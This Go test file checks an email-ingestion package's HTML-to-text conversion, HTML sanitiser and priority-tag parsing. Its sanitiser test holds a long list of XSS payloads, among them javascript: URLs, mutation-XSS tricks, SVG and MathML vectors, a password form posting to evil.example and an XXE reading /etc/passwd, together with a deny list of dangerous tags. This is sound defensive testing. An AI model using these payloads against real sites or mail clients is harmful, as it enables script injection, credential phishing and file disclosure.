package inbound_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"

	"flatsupport/shared/inbound"
)

func TestHTMLAsText(t *testing.T) {
	t.Parallel()
	cases := []struct{ name, html, want string }{
		{"paragraphs", "<p>Добрый день!</p><p>Все линии молчат.</p>", "Добрый день!\n\nВсе линии молчат."},
		{"lines", "one<br>two<br/>three<div>four</div>five", "one\ntwo\nthree\nfour\nfive"},
		{"the head is not read", "<html><head><title>No</title><style>p{color:red}</style><script>alert(1)</script></head><body>Yes</body></html>", "Yes"},
		{"a script within a style is none", "<style><script></style>Yes", "Yes"},
		{"a head that is never closed", "<head><meta charset=utf-8><p>Yes", "Yes"},
		{"entities", "a &lt;b&gt; &amp; &laquo;c&raquo;&nbsp;&#1055;2", "a <b> & «c» П2"},
		{"entities once only", "&amp;lt;script&amp;gt;", "&lt;script&gt;"},
		{"blanks of the source", "  one\n   two\t three ", "one two three"},
		{"what is preformatted", "<pre>one\n  two</pre>", "one\n  two"},
		{"a list", "<ul><li>one</li><li>two</li></ul>", "one\ntwo"},
		{"a table", "<table><tr><td>one</td><td>two</td></tr><tr><td>three</td></tr></table>", "one two\nthree"},
		{"a quotation", "Да.<blockquote><p>Работает?</p><blockquote>Нет</blockquote></blockquote>", "Да.\n> Работает?\n\n>> Нет"},
		{"letters that turn the line", "<p>a\u202eb</p>", "ab"},
		{"no markup", "just text", "just text"},
		{"nothing to read", "<img src=x>", ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			assert.Equal(t, c.want, inbound.Mail{HTML: c.html}.Body())
		})
	}
	assert.Equal(t, "text", inbound.Mail{Text: " text\n", HTML: "<p>html</p>"}.Body(), "the text counts before the HTML")
	assert.Equal(t, "html", inbound.Mail{Text: " \n", HTML: "<p>html</p>"}.Body(), "unless nothing stands there")
}

func TestSafeHTMLKeepsWhatIsRead(t *testing.T) {
	t.Parallel()
	const html = `<p>Один <b>два</b> <em>три</em></p><ul><li>x</li></ul><table><tr><td>1</td></tr></table><blockquote>a</blockquote><pre>b</pre>`
	assert.Equal(t, html, inbound.Mail{HTML: html}.SafeHTML())
	assert.Equal(t, `<a href="https://volga.example/x" rel="nofollow noreferrer noopener" target="_blank">x</a>`,
		inbound.Mail{HTML: `<a href="https://volga.example/x" onclick="y()" style="top:0">x</a>`}.SafeHTML())
	assert.Contains(t, inbound.Mail{HTML: `<a href="mailto:ivan@volga.example">x</a>`}.SafeHTML(), "mailto:ivan@volga.example")
}

func TestSafeHTMLLetsNothingThrough(t *testing.T) {
	t.Parallel()
	attacks := []string{
		`<script>alert(1)</script>`,
		`<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
		`<scr<script>ipt>alert(1)</scr</script>ipt>`,
		`<script/x>alert(1)</script>`,
		"<script\x00>alert(1)</script>",
		`<img src=x onerror=alert(1)>`,
		`<img src="https://evil.example/pixel.gif" width=1 height=1>`,
		`<img srcset="https://evil.example/pixel.gif 2x">`,
		`<img src="cid:one@x" onload=alert(1)>`,
		`<p onclick=alert(1) onmouseover="alert(1)">x</p>`,
		`<p style="background:url(https://evil.example/x)">x</p>`,
		`<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>`,
		`<style>@import url(https://evil.example/x.css);</style>`,
		`<style><img src="</style><img src=x onerror=alert(1)//">`,
		`<link rel=stylesheet href=https://evil.example/x.css>`,
		`<meta http-equiv=refresh content="0;url=https://evil.example">`,
		`<base href="https://evil.example/">`,
		`<a href="javascript:alert(1)">x</a>`,
		`<a href=" javascript:alert(1)">x</a>`,
		"<a href=\"java\nscript:alert(1)\">x</a>",
		"<a href=\"java\tscript:alert(1)\">x</a>",
		`<a href="&#106;avascript:alert(1)">x</a>`,
		`<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)">x</a>`,
		`<a href="JaVaScRiPt:alert(1)">x</a>`,
		"<a href=\"\x01javascript:alert(1)\">x</a>",
		`<a href="vbscript:msgbox(1)">x</a>`,
		`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
		`<a href="file:///etc/passwd">x</a>`,
		`<a href="//evil.example" ping="https://evil.example/ping">x</a>`,
		`<a xlink:href="javascript:alert(1)">x</a>`,
		`<svg onload=alert(1)>`,
		`<svg><script>alert(1)</script></svg>`,
		`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
		`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
		`<svg><use href="data:image/svg+xml;base64,PHN2Zz4="></use></svg>`,
		`<svg><style><img src=x onerror=alert(1)></style></svg>`,
		`<svg></p><style><a id="</style><img src=x onerror=alert(1)>">`,
		`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
		`<math href="javascript:alert(1)">x</math>`,
		`<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>`,
		`<form action="https://evil.example"><input name=password><button>Sign in</button></form>`,
		`<button formaction="javascript:alert(1)">x</button>`,
		`<input autofocus onfocus=alert(1)>`,
		`<select onchange=alert(1)><option>x</select>`,
		`<textarea autofocus onfocus=alert(1)>`,
		`<iframe src="https://evil.example"></iframe>`,
		`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
		`<frameset onload=alert(1)><frame src=x></frameset>`,
		`<object data="https://evil.example/x.swf"></object>`,
		`<embed src="https://evil.example/x.swf">`,
		`<applet code=x></applet>`,
		`<video poster="https://evil.example/x"><source onerror=alert(1)></video>`,
		`<audio src=https://evil.example/x onerror=alert(1)>`,
		`<body onload=alert(1) background="https://evil.example/x">`,
		`<table background="https://evil.example/x"><tr><td background="javascript:alert(1)">x</td></tr></table>`,
		`<bgsound src="https://evil.example/x">`,
		`<marquee onstart=alert(1)>x</marquee>`,
		`<details open ontoggle=alert(1)>x</details>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`<noembed><img src=x onerror=alert(1)></noembed>`,
		`<template><script>alert(1)</script></template>`,
		`<title><img src=x onerror=alert(1)></title>`,
		`<xmp><img src=x onerror=alert(1)></xmp>`,
		`<plaintext><img src=x onerror=alert(1)>`,
		`<!--><img src=x onerror=alert(1)>-->`,
		`<!-- --!><img src=x onerror=alert(1)> -->`,
		`<![CDATA[<img src=x onerror=alert(1)>]]>`,
		`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
		`<?xml-stylesheet href="javascript:alert(1)"?>`,
		`<!--[if gte mso 9]><script>alert(1)</script><![endif]-->`,
		`<p title="--><img src=x onerror=alert(1)>">x</p>`,
		`<x onclick=alert(1)>x</x>`,
		"<img src=`x` onerror=`alert(1)`>",
		`<img """><script>alert(1)</script>">`,
		`<<script>alert(1);//<</script>`,
		`<a href="https://volga.example" onclick="alert(1)" style="display:block" target="_self" class="x" id="y">x</a>`,
		`<p id="location" name="cookie" class="btn">x</p>`,
		`<isindex action="javascript:alert(1)" type=image>`,
		`<object type="text/x-scriptlet" data="https://evil.example/x"></object>`,
		`<dialog open><form method=dialog>x</form></dialog>`,
		`<portal src="https://evil.example"></portal>`,
		`<p>` + strings.Repeat("<div>", 5000) + `<script>alert(1)</script>`,
	}
	// Nothing but these may be in what is left, and these not with anything that acts or loads.
	forbidden := []string{
		"<script", "<img", "<svg", "<math", "<style", "<link", "<meta", "<base", "<form", "<input", "<button", "<iframe", "<frame", "<object",
		"<embed", "<video", "<audio", "<body", "<template", "<noscript", "<title", "<xmp", "<plaintext", "<!--", "<!", "<?", "<x", "<dialog", "<portal", "<isindex", "<textarea", "<select", "<details", "<marquee",
	}
	for _, attack := range attacks {
		once := inbound.Mail{HTML: attack}.SafeHTML()
		lower := strings.ToLower(once)
		for _, word := range forbidden {
			assert.NotContains(t, lower, word, attack)
		}
		for _, tag := range strings.Split(once, "<")[1:] {
			inner, _, closed := strings.Cut(tag, ">")
			assert.True(t, closed, attack)
			if attributes, isLink := strings.CutPrefix(inner, "a "); isLink {
				assert.Regexp(t, `^href="(https?|mailto|tel):[^"<>]*"( rel="[a-z ]+")?( target="_blank")?$`, attributes, attack)
			} else {
				assert.Regexp(t, `^/?[a-z0-9]+/?$`, inner, attack)
			}
		}
		assert.Equal(t, once, inbound.Mail{HTML: once}.SafeHTML(), "what is safe stays as it is: %s", attack)
	}
}

func TestThePriorityThatTheSenderWrote(t *testing.T) {
	t.Parallel()
	cases := []struct{ name, subject, body, want string }{
		{"none", "Calls are dead", "Everything is dead", ""},
		{"in the subject, Russian", "[П2] Нет связи", "", "P2"},
		{"in the subject, Latin", "[P2] No calls", "", "P2"},
		{"in the subject, a Cyrillic letter that looks like P", "[Р2] Нет связи", "", "P2"},
		{"in the subject, small", "Re: [п1] Нет связи", "", "P1"},
		{"in the subject, with blanks", "Нет связи [ P 3 ]", "", "P3"},
		{"no brackets", "P2 No calls", "", ""},
		{"no such priority", "[P5] No calls", "", ""},
		{"a number that goes on", "[P12] No calls", "", ""},
		{"a line, Russian", "s", "Добрый день!\nПриоритет: П2\nНет связи", "P2"},
		{"a line, English", "s", "Priority: P2", "P2"},
		{"a line, small, a figure alone", "s", "приоритет: 3", "P3"},
		{"a line with an equals sign", "s", "  PRIORITY = p4 (whenever)", "P4"},
		{"a line with blanks", "s", "Приоритет :\tП 1.", "P1"},
		{"a line, a figure that goes on", "s", "Priority: 15", ""},
		{"a line, a word that goes on", "s", "Priority: 1st", ""},
		{"a line, a Russian word that goes on", "s", "Приоритет: 1й", ""},
		{"within a sentence", "s", "The priority: P1 would be wrong", ""},
		{"the colon is on another line", "s", "Приоритет:\n1 звонок", ""},
		{"the subject before the body", "[П3] s", "Приоритет: П1", "P3"},
		{"two lines, the first counts", "s", "Priority: P3\nPriority: P1", "P3"},
		{"quoted only", "Re: s", "Thank you\n\nOn 23.11.2026 10:00, Support wrote:\n> Priority: P1", ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			assert.Equal(t, c.want, inbound.Mail{Subject: c.subject, Text: c.body}.Priority())
		})
	}
	assert.Equal(t, "P2", inbound.Mail{HTML: "<div>Нет связи</div><div>Приоритет:&nbsp;П2</div>"}.Priority())
}
